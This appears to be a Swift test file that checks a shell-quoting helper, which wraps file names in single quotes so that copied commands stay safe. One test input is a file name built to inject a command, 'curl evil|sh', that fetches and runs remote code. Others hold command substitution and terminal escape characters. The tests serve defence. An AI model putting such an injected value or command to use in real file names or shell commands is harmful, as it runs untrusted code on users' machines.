import SpoolModel
import Testing

/// Words of commands that people copy.
struct ShellWordTests {
    @Test(arguments: [
        ("a.json", "'a.json'"), ("", "''"), ("a';curl evil|sh;'.json", #"'a'\'';curl evil|sh;'\''.json'"#),
        ("'", #"''\'''"#), ("$(x)`y`\\\"é%", "'$(x)`y`\\\"é%'"), ("\u{1B}[2J\n\u{202E}", "'%1B[2J%0A%E2%80%AE'"),
        ("\r\n", "'%0D%0A'"), ("'\u{301}", "''\\''\u{301}'"),
    ])
    func `whatever is in a name stands between quotes`(text: String, word: String) {
        #expect(ShellWord.quoted(text) == word)
    }

    @Test(arguments: ["/var/spool/pushspool", "etc/a-b_c.yaml", "host:1,x@y+z", "0"])
    func `a path without anything special is not quoted`(text: String) {
        #expect(ShellWord.spelled(text) == text)
    }

    @Test(arguments: ["", "a b", "a;b", "~/a", "$HOME", "a&b", "a*", "a=b", "#a", "é", "a\nb", "a'b", "!", "["])
    func `a path with anything else is`(text: String) {
        #expect(ShellWord.spelled(text) == ShellWord.quoted(text))
    }
}
